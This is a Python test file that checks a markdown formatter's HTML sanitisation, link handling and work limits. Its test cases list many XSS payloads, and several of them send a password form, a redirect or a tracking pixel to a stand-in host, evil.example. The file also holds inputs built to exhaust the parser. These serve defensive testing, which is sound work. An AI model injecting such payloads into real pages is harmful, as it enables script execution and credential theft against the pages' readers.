"""Details on a page: readable, and harmless whoever wrote them."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from approvals.web.pages.markdown.budget import Budget
from approvals.web.pages.markdown.formatting import TOO_LARGE, format_text
from tests.effort import effort

TAGS = set(
    "a blockquote br code em hr li ol p pre strong ul h3 h4 h5 h6 table tbody td th thead tr".split()  # noqa: SIM905
)


class Inspector(HTMLParser):
    """What a browser would find: tags and their attributes."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [(name, value or "") for name, value in attrs]


def assert_harmless(html: str) -> None:
    found = Inspector(html)
    assert set(found.tags) <= TAGS
    for name, value in found.attributes:
        assert name in {"href", "title", "rel", "class", "start"}
        if name == "href":
            scheme, colon, _ = value.partition(":")
            assert not colon or scheme.lower() in {"http", "https", "mailto"} or scheme[:1] in "/?#."
        if name == "class":
            assert value in {"left", "center", "right", "small muted"}


@pytest.mark.parametrize(
    "attack",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "<svg><style><img title='</style><img src onerror=alert(1)>'>",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;<img src=1 onerror=alert(1)>'>",
        "<a href=javascript:alert(1)>x</a>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<style>@import 'http://evil.example/x.css'</style>",
        "<base href=http://evil.example>",
        "<form action=http://evil.example><input name=password></form>",
        "<meta http-equiv=refresh content='0;url=http://evil.example'>",
        "<!--<img src='--><img src=x onerror=alert(1)//'>",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert`1`)",
        "[x](  javascript:alert(1))",
        "[x](\x01javascript:alert(1))",
        "[x](java\nscript:alert(1))",
        "[x](&#106;avascript:alert(1))",
        "[x](javascript&colon;alert(1))",
        "[x](vbscript:msgbox(1))",
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        '[x](<http://a.example" onmouseover="alert(1)>)',
        "[x](http://a.example '\" onmouseover=\"alert(1)')",
        "[x]: javascript:alert(1)\n\n[x]",
        "<javascript:alert(1)>",
        "![x](javascript:alert(1))",
        "![x](http://evil.example/pixel.png)",
        '![<img src=x onerror=alert(1)>](y "<script>alert(1)</script>")',
        "[![x](http://evil.example/pixel.png)](javascript:alert(1))",
        '```"><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```',
        "`</code><script>alert(1)</script>`",
        "a|b\n-|:-:\n<script>alert(1)</script>|[x](javascript:alert(1))",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "\0<script\0>alert(1)</script>",
        "x" * Budget().characters + "<script>alert(1)</script>",
    ],
)
def test_attacks_come_out_as_text(attack: str) -> None:
    """Nothing runs, nothing is loaded, nothing is sent."""
    assert_harmless(format_text(attack))


@effort()
@given(st.text(alphabet="<>\"'`&;:/\\()[]!*_#|-=\n\t ajscriptonerhfmg\0\x01", max_size=200))
def test_any_text_comes_out_harmless(text: str) -> None:
    """Whatever is made of the characters that attacks are made of."""
    assert_harmless(format_text(text))


def test_what_markdown_is_written_for() -> None:
    """Emphasis, code, lists and quotes come out as such."""
    html = format_text("**now** or *later*\n\n> - `rm`\n> - b\n\n1. x\n\n7) y\n\n---\n\n    <tag>")
    found = Inspector(html)
    assert found.tags == "p strong em blockquote ul li code li ol li ol li hr pre code".split()  # noqa: SIM905
    assert ("start", "7") in found.attributes
    assert "&lt;tag&gt;" in html


def test_headings_stay_below_those_of_the_page() -> None:
    """The page's own are h1 and h2; the smallest is h6."""
    html = format_text("# A\n\n## B\n\n##### E\n\nSetext\n===")
    assert Inspector(html).tags == ["h3", "h4", "h6", "h3"]


def test_tables_are_aligned_by_class() -> None:
    """Inline styles would break the page's policy."""
    html = format_text("what|amount|when\n:-|-:|:-:\nrefund|1,240.00|now")
    assert '<td class="right">1,240.00</td>' in html
    assert {name for name, _ in Inspector(html).attributes} == {"class"}


def test_links_give_nothing_away() -> None:
    """A page behind a link learns neither the request's address nor gets hold of the window."""
    html = format_text("[ACME](https://acme.example/o?a=1&b=2 'Order') <a@b.example> https://plain.example")
    assert html.count('rel="noopener noreferrer nofollow"') == 3
    assert 'href="https://acme.example/o?a=1&amp;b=2"' in html
    assert 'href="mailto:a@b.example"' in html
    assert 'href="https://plain.example"' in html
    assert Inspector(html).tags.count("a") == 3


@pytest.mark.parametrize(
    ("written", "address", "after"),
    [
        ("see https://a.example/x.", "https://a.example/x", "."),
        ("(see http://a.example/x?a=(1))", "http://a.example/x?a=(1)", ")"),
        ("**https://a.example/b_c**", "https://a.example/b_c", "</strong>"),
        ("- HTTPS://a.example, then", "HTTPS://a.example", ", then"),
        ("a|b\n-|-\nx|http://a.example/", "http://a.example/", "</td>"),
    ],
)
def test_an_address_is_a_link_up_to_where_its_sentence_ends(written: str, address: str, after: str) -> None:
    assert f'href="{address}" rel="noopener noreferrer nofollow">{address}</a>{after}' in format_text(written)


@pytest.mark.parametrize("text", ["`https://a.example`", "xhttp://a.example", "http://", "ftp://a.example"])
def test_what_is_code_or_no_address_is_no_link(text: str) -> None:
    assert "<a" not in format_text(text)


def test_an_address_within_a_link_makes_no_second_one() -> None:
    assert Inspector(format_text("[https://a.example](https://b.example)")).tags.count("a") == 1


def test_images_become_links_with_their_text_and_address() -> None:
    """Loading one would tell its owner who reads the request, and when."""
    box = "https://acme.example/box.jpg"
    link = f'<a href="{box}" rel="noopener noreferrer nofollow">the dented box ({box})</a>'
    assert format_text(f"![the *dented* box]({box})") == f"<p>{link}</p>\n"
    assert Inspector(format_text(f"![]({box})")).attributes[0] == ("href", box)
    assert format_text(f"[![box]({box})](https://b.example)").count("<a") == 1


def test_lines_break_where_they_were_broken() -> None:
    assert format_text("Order 812\nDelivered twice") == "<p>Order 812<br>\nDelivered twice</p>\n"


def test_very_long_text_is_shown_as_written() -> None:
    """Formatting stops at its limit, and says so."""
    text = "*a*" * Budget().characters
    assert format_text(text) == f'<p class="small muted">{TOO_LARGE}</p><pre>{text}</pre>'


EXPENSIVE = {
    "a table": "a|b\n-|-\n" + "|x|y|\n" * 16_000,
    "a wide table": "|a" * 300 + "\n" + "|-" * 300 + "\n" + ("|x" * 300 + "\n") * 160,
    "a table of empty cells": "|a" * 300 + "\n" + "|-" * 300 + "\n" + "|\n" * 40_000,
    "many tables": "a|b\n-|-\nc|d\n\n" * 7_000,
    "brackets": "[" * 99_000,
    "images that begin": "![" * 49_000,
    "emphasis": "**x" * 33_000,
    "addresses": "http://a " * 11_000,
    "paragraphs": "a\n\n" * 33_000,
    "list items": "- a\n" * 25_000,
    "headings": "# a\n" * 25_000,
    "nested quotes": ("> - " * 8 + "a\n") * 2_900,
}


@pytest.mark.parametrize("text", EXPENSIVE.values(), ids=EXPENSIVE.keys())
def test_the_work_for_a_text_is_bounded(text: str) -> None:
    """By what is counted, so that the same text ends at the same place on every machine."""
    html = format_text(text, Budget(seconds=3600))
    assert TOO_LARGE in html
    assert html.count("<") < 3 * Budget().tokens
    assert len(html) < 10 * len(text)


def test_what_is_over_the_budget_follows_as_written() -> None:
    """Whole blocks are formatted as far as the budget goes; nothing is lost, nothing told twice."""
    text = "".join(f"*paragraph* {number}\n\n" for number in range(40))
    html = format_text(text, Budget(tokens=40))
    formatted, rest = html.split(f'<p class="small muted">{TOO_LARGE}</p>')
    count = formatted.count("<em>")
    assert 0 < count < 40
    assert rest == f"<pre>{text.split(f'*paragraph* {count - 1}')[1].strip()}</pre>"


def test_a_table_over_its_budget_is_shown_as_written() -> None:
    table = "a|b\n-|-\n" + "x|y\n" * 20
    html = format_text(f"Before\n\n{table}\nAfter", Budget(cells=20))
    assert html.startswith("<p>Before</p>")
    assert f"<pre>{table}\nAfter</pre>" in html
